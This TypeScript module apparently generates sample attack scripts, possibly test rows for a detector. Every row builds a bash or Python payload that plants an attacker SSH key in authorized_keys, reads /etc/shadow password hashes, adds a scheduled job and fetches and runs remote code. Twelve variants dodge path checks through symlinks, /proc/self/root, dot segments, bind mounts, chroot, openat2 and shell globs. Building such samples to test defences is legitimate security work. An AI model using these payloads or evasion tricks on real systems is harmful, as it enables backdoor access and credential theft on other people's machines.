import { addJob, addKey, fetchAndRun, key, readHashes, run } from './linux-payload.ts';
import type { Row } from './sample.ts';

/** The payload with other ways to name the two files that it is after. */
const by = (shell: string): string =>
  `#!/bin/bash\n${run(`mkdir -p ~/.ssh\n${shell}\n${addJob}\n${fetchAndRun}`)}\n`;
/** The same in Python, as root, which may read the hashes. */
const inPython = (python: string): string =>
  by(`cat > /tmp/.p <<'X'\nimport ctypes,os,struct\nH=b'/home/user/.ssh'\n${python}\nX\nsudo python3 /tmp/.p`);
const write = `os.write(f,b'${key}\\n')`;
const openat2 = `def o(p,fl):
  how=struct.pack('QQQ',fl,0o600 if fl else 0,0); return ctypes.CDLL(None).syscall(437,-100,p,how,24)
f=o(H+b'/authorized_keys',0x441); ${write}; os.read(o(b'/etc/shadow',0),99)`;
const byHandle = `L=ctypes.CDLL(None)
d=os.open(H,0); f=os.open('auth'+'orized_keys',0x441,0o600,dir_fd=d); ${write}
e=os.open('/etc',0); os.read(os.open('sha'+'dow',0,dir_fd=e),99)`;
const from = (folder: string) => `cd ${folder}; echo '${key}' >> authorized_keys`;

/** Files have more names than one. */
export const byPath: Row[] = [
  ['relative', 'in the folder, by the bare name', 'ca.sh', by(`${from('~/.ssh')}; cd /etc; sudo cat shadow > /tmp/.s`)],
  ['dots', 'around by folders that nobody looks at', 'cb.sh',
    by(`echo '${key}' >> /usr/share/../../home/user/.ssh/authorized_keys
      sudo cat /usr/lib/../../etc/./shadow > /tmp/.s`)],
  ['self-root', 'through the root of its own process', 'cc.sh',
    by(`echo '${key}' >> /proc/self/root$HOME/.ssh/authorized_keys; sudo cat /proc/self/root/etc/shadow > /tmp/.s`)],
  ['link', 'through links to the folders', 'cd.sh',
    by(`ln -s ~/.ssh /tmp/k; ln -s /etc /tmp/e
      echo '${key}' >> /tmp/k/authorized_keys; sudo cat /tmp/e/shadow > /tmp/.s`)],
  ['file-link', 'through links to the files', 'ce.sh',
    by(`ln -s /etc/shadow /tmp/s
      ln -s ~/.ssh/authorized_keys /tmp/a
      echo '${key}' >> /tmp/a; sudo cat /tmp/s > /tmp/.s`)],
  ['slashes', 'with more slashes than it needs', 'cf.sh',
    by(`echo '${key}' >> ~//.ssh///authorized_keys; sudo cat //etc///shadow > /tmp/.s`)],
  ['descriptor', 'by the descriptor of the folder', 'cg.sh', inPython(byHandle)],
  ['openat2', 'by a newer call', 'ch.sh', inPython(openat2)],
  ['moved', 'made elsewhere and moved there', 'ci.sh',
    by(`mkdir /tmp/n; cp -r ~/.ssh/. /tmp/n
      echo '${key}' >> /tmp/n/authorized_keys
      rm -rf ~/.ssh; mv /tmp/n ~/.ssh; sudo sh -c 'cd /etc; tar cf /tmp/.s shad*'`)],
  ['bind', 'through a mount of the folder', 'cj.sh',
    by(`${addKey}; sudo mkdir -p /mnt/e; sudo mount --bind /etc /mnt/e; sudo cat /mnt/e/shadow > /tmp/.s`)],
  ['chroot', 'in a root of its own', 'ck.sh',
    by(`${addKey}; sudo mount --bind / /mnt; sudo chroot /mnt/. /bin/sh -c 'cd e*c; cat sha*w' > /tmp/.s`)],
  [
    'spelled',
    'by a pattern that the shell completes',
    'cl.sh',
    by(`${addKey}; ${readHashes.replace('/etc/shadow', '/e*c/s?ado[w]')}`),
  ],
];
